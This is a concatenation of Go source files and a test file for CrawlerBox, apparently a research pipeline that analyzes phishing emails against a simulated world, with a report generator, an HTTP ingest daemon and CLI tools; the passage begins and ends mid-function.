			seen[dir] = true
			dirs = append(dirs, dir)
		}
	}
	for _, p := range patterns {
		if rest, ok := strings.CutSuffix(p, "/..."); ok {
			if rest == "" || rest == "." {
				rest = "."
			}
			err := filepath.WalkDir(rest, func(path string, d os.DirEntry, err error) error {
				if err != nil {
					return err
				}
				if !d.IsDir() {
					return nil
				}
				name := d.Name()
				if path != rest && (name == "testdata" || strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_")) {
					return filepath.SkipDir
				}
				if hasGoFiles(path) {
					add(path)
				}
				return nil
			})
			if err != nil {
				return nil, err
			}
			continue
		}
		if !hasGoFiles(p) {
			return nil, fmt.Errorf("no Go files in %s", p)
		}
		add(p)
	}
	return dirs, nil
}

// hasGoFiles reports whether dir directly contains a non-test Go file.
func hasGoFiles(dir string) bool {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		name := e.Name()
		if !e.IsDir() && strings.HasSuffix(name, ".go") && !strings.HasSuffix(name, "_test.go") {
			return true
		}
	}
	return false
}
