// Command report regenerates every table and figure of the paper's
// evaluation: it builds the calibrated synthetic corpus, runs the CrawlerBox
// pipeline over all of it, and prints the aggregations.
//
// Usage:
//
//	report [-seed N] [-scale F] [-workers N] [-only table1|table2|fig2|fig3|disposition|spear|nontargeted|cloaks]
//	       [-trace FILE] [-metrics FILE] [-faults F] [-retry-max N] [-breaker-threshold N]
//	       [-evidence FILE] [-tracestore FILE]
//
// At -scale 1.0 (the default) the corpus holds 5,181 messages and the full
// run takes a few seconds. -workers parallelizes the per-message analysis;
// the aggregates are bitwise identical for every worker count — as are the
// -trace JSONL and -metrics Prometheus dumps, which record the corpus
// analysis on the virtual clock (render them with cmd/obsreport). -faults
// injects seeded transient network faults (NXDOMAIN flaps, resets, slow
// starts, 5xx bursts) recovered through virtual-clock retries and per-host
// circuit breakers; messages the recovery layer gave up on land in the
// partial-evidence disposition row. -evidence spills bulky evidence (visit
// records, logged traffic) to an append-only store so resident memory
// stays flat however large -scale makes the corpus; every aggregate is
// byte-identical with or without it.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"

	"crawlerbox/internal/climain"
	"crawlerbox/internal/crawler"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/report"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "report:", err)
		os.Exit(1)
	}
}

func run() error {
	seed := flag.Int64("seed", 42, "corpus generation seed")
	scale := flag.Float64("scale", 1.0, "corpus scale (1.0 = 5,181 messages)")
	only := flag.String("only", "", "print a single artifact: table1|table2|fig2|fig3|disposition|spear|nontargeted|cloaks")
	shared := climain.Register(flag.CommandLine)
	flag.Parse()

	if *only == "table1" || *only == "" {
		fmt.Println("Running Table I crawler assessment...")
		a, err := crawler.RunAssessment(context.Background())
		if err != nil {
			return err
		}
		fmt.Println(report.RenderTable1(a))
		if *only == "table1" {
			return nil
		}
	}

	fmt.Printf("Generating corpus (seed=%d scale=%.2f)...\n", *seed, *scale)
	// Stream, not Generate: specs render lazily into the worker pool and
	// aggregates fold through per-worker census shards, so peak memory is
	// O(workers) however large -scale makes the corpus.
	c, err := dataset.Stream(dataset.Config{Seed: *seed, Scale: *scale})
	if err != nil {
		return err
	}
	fmt.Printf("Analyzing %d messages with CrawlerBox (%d workers)...\n\n", c.Len(), *shared.Workers)
	observer := shared.Observer()
	// The -evidence and -tracestore stores ride along as path options:
	// Analyze creates, finalizes, and closes them itself.
	run, err := report.Analyze(context.Background(), c, shared.ReportOptions(observer)...)
	if err != nil {
		return err
	}
	if err := shared.WriteExports(observer); err != nil {
		return err
	}

	artifacts := []struct {
		key  string
		text func() string
	}{
		{"disposition", run.RenderDisposition},
		{"fig2", run.RenderFigure2},
		{"table2", run.RenderTable2},
		{"fig3", run.RenderFigure3},
		{"spear", run.RenderSpear},
		{"nontargeted", run.RenderNonTargeted},
		{"cloaks", run.RenderCloaks},
	}
	for _, a := range artifacts {
		if *only != "" && *only != a.key {
			continue
		}
		fmt.Println(a.text())
	}
	return nil
}
