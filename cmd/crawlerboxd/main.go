// Command crawlerboxd is the continuous-ingest daemon: the service mode of
// the CrawlerBox pipeline. Reported message specs stream in over HTTP (or
// from a canned ingest log), pass through a sharded verdict dedup cache
// keyed by canonical landing URL, and run the full analysis pipeline on
// miss — every accepted spec and emitted verdict journals to an
// append-only ingest log, so a killed daemon resumes where it stopped
// without losing or re-analyzing work.
//
// The world the daemon analyzes against is the same deterministic
// simulation the batch tools use: -seed and -scale must match the corpus
// the submitted messages were generated from.
//
// Usage:
//
//	crawlerboxd -record FILE -n N [-seed N] [-scale F]
//	crawlerboxd -replay FILE [-out FILE] [-workers N] [-cache=false] [-tracestore FILE]
//	crawlerboxd -serve ADDR -log FILE [-workers N] [-max-pending N]
//
// -record writes a canned spec-only ingest log from the generated corpus
// (the daemon-shaped replacement for a batch corpus run). -replay runs a
// log to completion against a fresh world and writes the canonical
// verdict stream — byte-identical for any -workers value, and identical
// across a kill and resume. -serve exposes the ingest API over HTTP:
//
//	POST /api/submit      — submit one spec {"id":N,"at":RFC3339,"raw":BASE64}
//	GET  /api/stats       — counters + pending depth (JSON)
//	GET  /api/verdict?id=N — the emitted verdict for one message (JSON)
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/signal"
	"sort"
	"syscall"
	"time"

	"crawlerbox/internal/climain"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/ingest"
	"crawlerbox/internal/obs"
)

func main() {
	if err := run(os.Args[1:], os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "crawlerboxd:", err)
		os.Exit(1)
	}
}

func run(args []string, w io.Writer) error {
	fs := flag.NewFlagSet("crawlerboxd", flag.ContinueOnError)
	seed := fs.Int64("seed", 42, "world/corpus seed (must match the corpus the messages came from)")
	scale := fs.Float64("scale", 0.1, "world/corpus scale (must match the corpus the messages came from)")
	record := fs.String("record", "", "write a canned spec-only ingest log from the corpus to FILE and exit")
	limit := fs.Int("n", 0, "record mode: number of corpus messages to record (0 = all)")
	replay := fs.String("replay", "", "replay the ingest log at FILE to completion and exit")
	out := fs.String("out", "", "replay mode: write the canonical verdict stream to FILE (default stdout)")
	serve := fs.String("serve", "", "serve the ingest API over HTTP on this address (e.g. :8080)")
	logPath := fs.String("log", "", "serve mode: journal accepted specs and emitted verdicts to FILE (resumes if it exists)")
	queueDepth := fs.Int("queue-depth", 2, "per-worker shard queue depth (full queues block submission)")
	maxPending := fs.Int("max-pending", 0, "serve mode: shed submissions with 503 when this many are in flight (0 = never shed)")
	cache := fs.Bool("cache", true, "dedup verdicts through the sharded cache (verdict outcomes are identical either way)")
	shared := climain.Register(fs)
	if err := fs.Parse(args); err != nil {
		return err
	}

	switch {
	case *record != "":
		return recordLog(*record, *seed, *scale, *limit, w)
	case *replay != "":
		return replayLog(*replay, *out, *seed, *scale, *queueDepth, *cache, shared, w)
	case *serve != "":
		return serveIngest(*serve, *logPath, *seed, *scale, *queueDepth, *maxPending, *cache, shared, w)
	}
	return errors.New("one of -record, -replay, or -serve is required")
}

// buildWorld deploys a fresh simulated world and assembles its pipeline
// with the shared observability/resilience flags applied.
func buildWorld(seed int64, scale float64, shared *climain.Flags) (*dataset.Corpus, *crawlerbox.Pipeline, error) {
	c, err := dataset.Stream(dataset.Config{Seed: seed, Scale: scale})
	if err != nil {
		return nil, nil, err
	}
	pipe := crawlerbox.New(c.Net, c.Registry)
	if shared != nil {
		if observer := shared.Observer(); observer != nil {
			pipe.Obs = observer
			c.Net.Metrics = observer.Metrics
		}
		pipe.Resilience = shared.Policy()
	}
	brands := make([]string, 0, len(c.BrandURLs))
	for b := range c.BrandURLs {
		brands = append(brands, b)
	}
	sort.Strings(brands)
	for _, b := range brands {
		if err := pipe.AddReference(context.Background(), b, c.BrandURLs[b]); err != nil {
			return nil, nil, fmt.Errorf("reference %s: %w", b, err)
		}
	}
	return c, pipe, nil
}

// recordLog writes the canned ingest log a batch corpus run would have
// submitted: one spec per message, IDs sequential, analysis time two hours
// after delivery (the paper's reporting lag).
func recordLog(path string, seed int64, scale float64, limit int, w io.Writer) error {
	c, err := dataset.Stream(dataset.Config{Seed: seed, Scale: scale})
	if err != nil {
		return err
	}
	log, err := ingest.CreateLog(path)
	if err != nil {
		return err
	}
	n := 0
	c.Each(func(i int, m *dataset.Message) bool {
		if limit > 0 && i >= limit {
			return false
		}
		if err2 := log.AppendSpec(ingest.Spec{
			ID: int64(i + 1), At: m.Delivered.Add(2 * time.Hour), Raw: m.Raw,
		}); err2 != nil {
			err = err2
			return false
		}
		n++
		return true
	})
	if err != nil {
		log.Close()
		return err
	}
	if err := log.Close(); err != nil {
		return err
	}
	fmt.Fprintf(w, "recorded %d specs to %s\n", n, path)
	return nil
}

// replayLog runs an ingest log to completion against a fresh world: the
// batch mode of the service API. The verdict stream and the printed
// counters are byte-identical for any worker count.
func replayLog(path, out string, seed int64, scale float64, queueDepth int, cache bool,
	shared *climain.Flags, w io.Writer) error {
	c, pipe, err := buildWorld(seed, scale, shared)
	if err != nil {
		return err
	}
	if *shared.TraceStore != "" && pipe.Obs == nil {
		// The triage segment persists span trees and metrics, so it needs
		// an observer even without -trace / -metrics.
		pipe.Obs = obs.New()
		c.Net.Metrics = pipe.Obs.Metrics
	}
	res, err := ingest.Replay(context.Background(), path, pipe, ingest.PipelineKeyer(pipe),
		ingest.WithWorkers(*shared.Workers),
		ingest.WithQueueDepth(queueDepth),
		ingest.WithCache(cache))
	if err != nil {
		return err
	}
	dst := w
	if out != "" {
		f, err := os.Create(out)
		if err != nil {
			return err
		}
		defer f.Close()
		dst = f
	}
	if err := res.WriteVerdictStream(dst); err != nil {
		return err
	}
	if *shared.TraceStore != "" {
		if err := res.WriteTraceStore(*shared.TraceStore, pipe.Obs.Traces(), pipe.Obs.Metrics.Snapshot()); err != nil {
			return err
		}
	}
	printCounters(w, res.Counters)
	return nil
}

// printCounters renders the final counters as one canonical JSON line.
func printCounters(w io.Writer, c ingest.Counters) {
	line, _ := json.Marshal(c)
	fmt.Fprintf(w, "counters: %s\n", line)
}

// serveIngest runs the HTTP daemon: recover the journal (if any), serve
// the ingest API until SIGINT/SIGTERM, then drain and report.
func serveIngest(addr, logPath string, seed int64, scale float64, queueDepth, maxPending int,
	cache bool, shared *climain.Flags, w io.Writer) error {
	if logPath == "" {
		return errors.New("-serve requires -log FILE (the ingest journal)")
	}
	_, pipe, err := buildWorld(seed, scale, shared)
	if err != nil {
		return err
	}

	// Recover before reopening: a pre-existing journal replays its done
	// records and re-enqueues its unfinished specs.
	var state *ingest.LogState
	if _, statErr := os.Stat(logPath); statErr == nil {
		state, err = ingest.ReadLog(logPath)
		if err != nil {
			return err
		}
	}
	var log *ingest.Log
	if state != nil {
		log, err = ingest.OpenLog(logPath)
	} else {
		log, err = ingest.CreateLog(logPath)
	}
	if err != nil {
		return err
	}

	svc := ingest.NewService(pipe, ingest.PipelineKeyer(pipe), log,
		ingest.WithWorkers(*shared.Workers),
		ingest.WithQueueDepth(queueDepth),
		ingest.WithMaxPending(maxPending),
		ingest.WithCache(cache))
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
	defer stop()
	svc.Start(ctx)
	if state != nil {
		if err := svc.Resume(ctx, state); err != nil {
			svc.Drain()
			return err
		}
		counters, _ := svc.Stats()
		fmt.Fprintf(w, "resumed %d verdicts, %d specs re-enqueued from %s\n",
			counters.Resumed, counters.Submitted-counters.Resumed, logPath)
	}

	srv, err := climain.NewHTTPServer(addr, daemonMux(svc))
	if err != nil {
		svc.Drain()
		return err
	}
	fmt.Fprintf(w, "crawlerboxd: ingest API on %s, journal %s\n", srv.Addr(), logPath)
	if err := srv.Run(ctx); err != nil {
		svc.Drain()
		return err
	}
	res, err := svc.Drain()
	if err != nil {
		return err
	}
	printCounters(w, res.Counters)
	return nil
}

// daemonMux builds the ingest API. Split from serveIngest so the endpoint
// behavior is testable with httptest against a real service.
func daemonMux(svc *ingest.Service) *http.ServeMux {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, "crawlerbox ingest daemon\n\nendpoints:\n"+
			"  POST /api/submit      {\"id\":N,\"at\":RFC3339,\"raw\":BASE64}\n"+
			"  GET  /api/stats\n"+
			"  GET  /api/verdict?id=N\n")
	})
	mux.HandleFunc("/api/submit", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			climain.HTTPError(w, http.StatusMethodNotAllowed, "POST required")
			return
		}
		var spec ingest.Spec
		if err := json.NewDecoder(r.Body).Decode(&spec); err != nil {
			climain.HTTPError(w, http.StatusBadRequest, "bad spec: "+err.Error())
			return
		}
		if spec.ID <= 0 || len(spec.Raw) == 0 {
			climain.HTTPError(w, http.StatusBadRequest, "spec needs a positive id and non-empty raw")
			return
		}
		switch err := svc.Submit(r.Context(), spec); {
		case err == nil:
			w.WriteHeader(http.StatusAccepted)
			climain.WriteJSON(w, map[string]int64{"accepted": spec.ID})
		case errors.Is(err, ingest.ErrOverloaded), errors.Is(err, ingest.ErrDraining):
			climain.HTTPError(w, http.StatusServiceUnavailable, err.Error())
		default:
			climain.HTTPError(w, http.StatusInternalServerError, err.Error())
		}
	})
	mux.HandleFunc("/api/stats", func(w http.ResponseWriter, r *http.Request) {
		counters, pending := svc.Stats()
		climain.WriteJSON(w, map[string]any{"counters": counters, "pending": pending})
	})
	mux.HandleFunc("/api/verdict", func(w http.ResponseWriter, r *http.Request) {
		id, ok := climain.IDParam(w, r)
		if !ok {
			return
		}
		e, ok := svc.Emission(id)
		if !ok {
			climain.HTTPError(w, http.StatusNotFound,
				fmt.Sprintf("message %d: no verdict emitted yet", id))
			return
		}
		climain.WriteJSON(w, e)
	})
	return mux
}
