package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/ingest"
)

// TestRecordReplayDeterminism drives the CLI end to end: record a canned
// ingest log from the corpus, replay it at two worker counts, and require
// byte-identical verdict streams and counter lines.
func TestRecordReplayDeterminism(t *testing.T) {
	dir := t.TempDir()
	logPath := filepath.Join(dir, "canned.ingestlog")

	var buf bytes.Buffer
	if err := run([]string{"-record", logPath, "-n", "30", "-scale", "0.1"}, &buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "recorded 30 specs") {
		t.Fatalf("record output: %s", buf.String())
	}

	replay := func(workers string) (string, string) {
		out := filepath.Join(dir, "stream-"+workers+".jsonl")
		var rbuf bytes.Buffer
		if err := run([]string{"-replay", logPath, "-out", out, "-scale", "0.1", "-workers", workers}, &rbuf); err != nil {
			t.Fatal(err)
		}
		stream, err := os.ReadFile(out)
		if err != nil {
			t.Fatal(err)
		}
		return string(stream), rbuf.String()
	}
	stream1, stats1 := replay("1")
	stream8, stats8 := replay("8")
	if stream1 != stream8 {
		t.Fatal("verdict streams differ between -workers 1 and -workers 8")
	}
	if stats1 != stats8 {
		t.Fatalf("counter lines differ:\n%s\n%s", stats1, stats8)
	}
	if lines := strings.Count(stream1, "\n"); lines != 30 {
		t.Fatalf("stream has %d lines, want 30", lines)
	}
	if !strings.Contains(stats1, `"submitted":30`) {
		t.Fatalf("counters line: %s", stats1)
	}
}

// releasableAnalyzer blocks every analysis until Release, so the API tests
// can observe in-flight state without sleeping.
type releasableAnalyzer struct {
	release chan struct{}
	once    sync.Once
}

func (a *releasableAnalyzer) Analyze(ctx context.Context, spec crawlerbox.MessageSpec) (*crawlerbox.MessageAnalysis, error) {
	select {
	case <-a.release:
	case <-ctx.Done():
	}
	return nil, ctx.Err()
}

func (a *releasableAnalyzer) Release() { a.once.Do(func() { close(a.release) }) }

// TestDaemonAPI drives every HTTP endpoint through httptest: accept,
// dedup, overload shedding, verdict lookup before and after completion,
// and the draining refusal.
func TestDaemonAPI(t *testing.T) {
	ra := &releasableAnalyzer{release: make(chan struct{})}
	keyer := func(raw []byte) string { return string(raw) }
	svc := ingest.NewService(ra, keyer, nil,
		ingest.WithWorkers(1), ingest.WithQueueDepth(1), ingest.WithMaxPending(2))
	svc.Start(context.Background())
	ts := httptest.NewServer(daemonMux(svc))
	defer ts.Close()

	submit := func(body string) *http.Response {
		resp, err := http.Post(ts.URL+"/api/submit", "application/json", strings.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		return resp
	}
	get := func(path string, wantStatus int) string {
		resp, err := http.Get(ts.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var buf bytes.Buffer
		buf.ReadFrom(resp.Body)
		if resp.StatusCode != wantStatus {
			t.Fatalf("GET %s: status %d, want %d\n%s", path, resp.StatusCode, wantStatus, buf.String())
		}
		return buf.String()
	}
	rawA := `"` + "YQ==" + `"` // base64 "a"
	rawC := `"` + "Yw==" + `"` // base64 "c"

	if resp := submit(`{"id":1,"raw":` + rawA + `}`); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit 1: status %d", resp.StatusCode)
	}
	// Same key: admitted as a waiter on the in-flight analysis.
	if resp := submit(`{"id":2,"raw":` + rawA + `}`); resp.StatusCode != http.StatusAccepted {
		t.Fatalf("submit 2: status %d", resp.StatusCode)
	}
	// Admission control: two pending is the limit.
	if resp := submit(`{"id":3,"raw":` + rawC + `}`); resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("submit 3: status %d, want 503", resp.StatusCode)
	}
	// Malformed submissions.
	if resp := submit(`{not json`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("bad json: status %d", resp.StatusCode)
	}
	if resp := submit(`{"id":0,"raw":` + rawA + `}`); resp.StatusCode != http.StatusBadRequest {
		t.Fatalf("zero id: status %d", resp.StatusCode)
	}
	resp, err := http.Get(ts.URL + "/api/submit")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusMethodNotAllowed {
		t.Fatalf("GET submit: status %d", resp.StatusCode)
	}

	stats := get("/api/stats", http.StatusOK)
	var parsed struct {
		Counters ingest.Counters `json:"counters"`
		Pending  int             `json:"pending"`
	}
	if err := json.Unmarshal([]byte(stats), &parsed); err != nil {
		t.Fatal(err)
	}
	if parsed.Counters.Submitted != 2 || parsed.Counters.CacheHits != 1 ||
		parsed.Counters.Rejected != 1 || parsed.Pending != 2 {
		t.Fatalf("stats = %s", stats)
	}

	get("/api/verdict?id=1", http.StatusNotFound) // still in flight
	get("/api/verdict?id=zero", http.StatusBadRequest)

	ra.Release()
	if _, err := svc.Drain(); err != nil {
		t.Fatal(err)
	}

	if got := get("/api/verdict?id=1", http.StatusOK); !strings.Contains(got, `"provenance": "fresh"`) {
		t.Errorf("verdict 1:\n%s", got)
	}
	got := get("/api/verdict?id=2", http.StatusOK)
	if !strings.Contains(got, `"provenance": "cached"`) || !strings.Contains(got, `"cached_from": 1`) {
		t.Errorf("verdict 2:\n%s", got)
	}
	if resp := submit(`{"id":4,"raw":` + rawC + `}`); resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("submit while draining: status %d, want 503", resp.StatusCode)
	}
	if got := get("/", http.StatusOK); !strings.Contains(got, "/api/submit") {
		t.Errorf("index page:\n%s", got)
	}
}
