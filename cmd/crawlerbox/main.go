// Command crawlerbox runs the analysis pipeline over .eml files.
//
// Messages can reference hosts that only exist inside the bundled simulated
// world, so the tool first generates a corpus world (whose sites stay
// deployed) and then analyzes either the corpus's own messages or .eml
// files from a directory produced by mkdataset.
//
// Usage:
//
//	crawlerbox [-dir DIR] [-seed N] [-scale F] [-n N] [-workers N]
//	           [-trace FILE] [-metrics FILE] [-faults F] [-retry-max N]
//	           [-breaker-threshold N] [-evidence FILE] [-tracestore FILE]
//
// -trace writes one JSONL span record per line (virtual-time timestamps,
// byte-identical for any -workers value); -metrics writes a Prometheus text
// dump. Render either with cmd/obsreport. -faults injects seeded transient
// network faults recovered through virtual-clock retries and per-host
// circuit breakers (tune with -retry-max and -breaker-threshold).
// -evidence spills bulky evidence (visit records, logged traffic) to an
// append-only store instead of holding it in RAM; the printed summary
// lines are byte-identical either way. -tracestore writes the triage index
// (span trees, verdict evidence, metrics) as one canonical segment; query
// it, render checklists, and re-adjudicate verdicts with `obsreport
// -store FILE` or the `obsreport -serve` HTTP triage server.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/climain"
	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/phishkit"
	"crawlerbox/internal/tracestore"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "crawlerbox:", err)
		os.Exit(1)
	}
}

func run() error {
	dir := flag.String("dir", "", "directory of .eml files (default: analyze the generated corpus directly)")
	seed := flag.Int64("seed", 42, "world/corpus seed (must match mkdataset for -dir)")
	scale := flag.Float64("scale", 0.1, "world/corpus scale (must match mkdataset for -dir)")
	limit := flag.Int("n", 10, "maximum messages to analyze (0 = all)")
	shared := climain.Register(flag.CommandLine)
	flag.Parse()

	// Stream, not Generate: the world (sites, DNS, brand pages) deploys
	// either way, but message bytes render lazily one at a time, so the
	// corpus never sits fully materialized in RAM.
	corpus, err := dataset.Stream(dataset.Config{Seed: *seed, Scale: *scale})
	if err != nil {
		return err
	}
	pipe := crawlerbox.New(corpus.Net, corpus.Registry)
	observer := shared.Observer()
	tstore, err := shared.TraceStoreWriter()
	if err != nil {
		return err
	}
	if tstore != nil {
		defer tstore.Close()
		if observer == nil {
			// The triage index persists span trees and metrics, so it
			// needs an observer even without -trace / -metrics.
			observer = obs.New()
		}
	}
	if observer != nil {
		pipe.Obs = observer
		corpus.Net.Metrics = observer.Metrics
	}
	pipe.Resilience = shared.Policy()
	store, err := shared.EvidenceStore()
	if err != nil {
		return err
	}
	if store != nil {
		defer store.Close()
		corpus.Net.SpillTrafficTo(store)
	}
	for _, b := range phishkit.StudyBrands {
		if err := pipe.AddReference(context.Background(), b.Name, corpus.BrandURLs[b.Name]); err != nil {
			return err
		}
	}
	corpus.Net.Clock.Set(time.Date(2024, 11, 1, 0, 0, 0, 0, time.UTC))

	if *dir != "" {
		entries, err := os.ReadDir(*dir)
		if err != nil {
			return err
		}
		var files []string
		for _, e := range entries {
			if strings.HasSuffix(e.Name(), ".eml") {
				files = append(files, e.Name())
			}
		}
		sort.Strings(files)
		if *limit > 0 && len(files) > *limit {
			files = files[:*limit]
		}
		specs := make([]crawlerbox.MessageSpec, len(files))
		for i, f := range files {
			raw, err := os.ReadFile(filepath.Join(*dir, f))
			if err != nil {
				return err
			}
			specs[i] = crawlerbox.MessageSpec{Raw: raw, ID: int64(i + 1)}
		}
		for i, res := range pipe.AnalyzeCorpus(context.Background(), specs, *shared.Workers) {
			// The summary line never reads Visits, so spilling first is safe
			// (verdict facts survive the spill).
			if err := crawlerbox.SpillEvidence(store, res.Analysis); err != nil {
				return err
			}
			tstore.Add(tracestore.VerdictOf(int64(i+1), res.Analysis, res.Err))
			fmt.Println(resultLine(files[i], res))
		}
		if err := finalizeTraceStore(tstore, observer); err != nil {
			return err
		}
		return shared.WriteExports(observer)
	}

	// Corpus mode streams: specs render one message at a time through
	// Corpus.Each and flow into the bounded worker pool; only the one-line
	// summaries are buffered (to restore message order), never the corpus.
	count := corpus.Len()
	if *limit > 0 && *limit < count {
		count = *limit
	}
	specs := make(chan crawlerbox.IndexedSpec, *shared.Workers)
	go func() {
		defer close(specs)
		corpus.Each(func(i int, m *dataset.Message) bool {
			if i >= count {
				return false
			}
			specs <- crawlerbox.IndexedSpec{Index: i, Spec: crawlerbox.MessageSpec{Raw: m.Raw, ID: int64(i + 1)}}
			return true
		})
	}()
	lines := make([]string, count)
	spillErrs := make([]error, max(*shared.Workers, 1))
	pipe.AnalyzeStream(context.Background(), specs, *shared.Workers, func(w int, res crawlerbox.CorpusResult) {
		// The summary line never reads Visits, so spilling first is safe
		// (verdict facts survive the spill).
		if err := crawlerbox.SpillEvidence(store, res.Analysis); err != nil && spillErrs[w] == nil {
			spillErrs[w] = err
		}
		tstore.Add(tracestore.VerdictOf(int64(res.Index+1), res.Analysis, res.Err))
		lines[res.Index] = resultLine(fmt.Sprintf("corpus-%05d", res.Index), res)
	})
	for _, err := range spillErrs {
		if err != nil {
			return err
		}
	}
	for _, line := range lines {
		fmt.Println(line)
	}
	if err := finalizeTraceStore(tstore, observer); err != nil {
		return err
	}
	return shared.WriteExports(observer)
}

// finalizeTraceStore flushes the triage index: span trees and metrics from
// the observer join the buffered verdict rows in one canonical segment.
func finalizeTraceStore(tstore *tracestore.Writer, observer *obs.Observer) error {
	if tstore == nil {
		return nil
	}
	return tstore.Finalize(observer.Traces(), observer.Metrics.Snapshot())
}

// resultLine formats one analysis result as the tool's summary line.
func resultLine(name string, res crawlerbox.CorpusResult) string {
	if res.Err != nil {
		return fmt.Sprintf("%-16s ERROR %v", name, res.Err)
	}
	ma := res.Analysis
	line := fmt.Sprintf("%-16s %-20s urls=%d", name, ma.Outcome, len(ma.Parse.URLs))
	if ma.Outcome == crawlerbox.OutcomeError {
		line += " err=" + ma.ErrorKind.String()
	}
	if ma.SpearPhish {
		line += " spear[" + ma.Brand + "]"
	}
	if ma.Landing != nil {
		line += " landing=" + ma.Landing.Host
	}
	if cloaks := cloakSummary(ma); cloaks != "" {
		line += " cloaks={" + cloaks + "}"
	}
	return line
}

func cloakSummary(ma *crawlerbox.MessageAnalysis) string {
	c := ma.Cloaks
	var parts []string
	for _, kv := range []struct {
		name string
		on   bool
	}{
		{"turnstile", c.Turnstile}, {"recaptcha", c.ReCaptcha},
		{"token", c.TokenizedURL}, {"victim", c.VictimCheck},
		{"otp", c.OTPPrompt}, {"math", c.MathChallenge},
		{"console", c.ConsoleHijack}, {"debugger", c.DebuggerTimer},
		{"hue", c.HueRotate}, {"fpgate", c.FingerprintGate},
		{"faultyqr", ma.Parse.FaultyQR}, {"noise", ma.Parse.NoisePadded},
	} {
		if kv.on {
			parts = append(parts, kv.name)
		}
	}
	return strings.Join(parts, ",")
}
