// Command crawlerbox runs the analysis pipeline over .eml files.
//
// Messages can reference hosts that only exist inside the bundled simulated
// world, so the tool first generates a corpus world (whose sites stay
// deployed) and then analyzes either the corpus's own messages or .eml
// files from a directory produced by mkdataset.
//
// Usage:
//
//	crawlerbox [-dir DIR] [-seed N] [-scale F] [-n N] [-workers N]
//	           [-trace FILE] [-metrics FILE]
//
// -trace writes one JSONL span record per line (virtual-time timestamps,
// byte-identical for any -workers value); -metrics writes a Prometheus text
// dump. Render either with cmd/obsreport.
package main

import (
	"context"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"sort"
	"strings"
	"time"

	"crawlerbox/internal/crawlerbox"
	"crawlerbox/internal/dataset"
	"crawlerbox/internal/obs"
	"crawlerbox/internal/phishkit"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "crawlerbox:", err)
		os.Exit(1)
	}
}

func run() error {
	dir := flag.String("dir", "", "directory of .eml files (default: analyze the generated corpus directly)")
	seed := flag.Int64("seed", 42, "world/corpus seed (must match mkdataset for -dir)")
	scale := flag.Float64("scale", 0.1, "world/corpus scale (must match mkdataset for -dir)")
	limit := flag.Int("n", 10, "maximum messages to analyze (0 = all)")
	workers := flag.Int("workers", runtime.NumCPU(), "analysis worker-pool size (results are identical for any value)")
	tracePath := flag.String("trace", "", "write per-message trace spans as JSONL to FILE")
	metricsPath := flag.String("metrics", "", "write metrics as Prometheus text to FILE")
	flag.Parse()

	corpus, err := dataset.Generate(dataset.Config{Seed: *seed, Scale: *scale})
	if err != nil {
		return err
	}
	pipe := crawlerbox.New(corpus.Net, corpus.Registry)
	var observer *obs.Observer
	if *tracePath != "" || *metricsPath != "" {
		observer = obs.New()
		pipe.Obs = observer
		corpus.Net.Metrics = observer.Metrics
	}
	for _, b := range phishkit.StudyBrands {
		if err := pipe.AddReference(context.Background(), b.Name, corpus.BrandURLs[b.Name]); err != nil {
			return err
		}
	}
	corpus.Net.Clock.Set(time.Date(2024, 11, 1, 0, 0, 0, 0, time.UTC))

	var messages [][]byte
	var names []string
	if *dir != "" {
		entries, err := os.ReadDir(*dir)
		if err != nil {
			return err
		}
		var files []string
		for _, e := range entries {
			if strings.HasSuffix(e.Name(), ".eml") {
				files = append(files, e.Name())
			}
		}
		sort.Strings(files)
		for _, f := range files {
			raw, err := os.ReadFile(filepath.Join(*dir, f))
			if err != nil {
				return err
			}
			messages = append(messages, raw)
			names = append(names, f)
		}
	} else {
		for i, m := range corpus.Messages {
			messages = append(messages, m.Raw)
			names = append(names, fmt.Sprintf("corpus-%05d", i))
		}
	}
	if *limit > 0 && len(messages) > *limit {
		messages = messages[:*limit]
		names = names[:*limit]
	}

	specs := make([]crawlerbox.MessageSpec, len(messages))
	for i, raw := range messages {
		specs[i] = crawlerbox.MessageSpec{Raw: raw, ID: int64(i + 1)}
	}
	for i, res := range pipe.AnalyzeCorpus(context.Background(), specs, *workers) {
		if res.Err != nil {
			fmt.Printf("%-16s ERROR %v\n", names[i], res.Err)
			continue
		}
		ma := res.Analysis
		line := fmt.Sprintf("%-16s %-20s urls=%d", names[i], ma.Outcome, len(ma.Parse.URLs))
		if ma.Outcome == crawlerbox.OutcomeError {
			line += " err=" + ma.ErrorKind.String()
		}
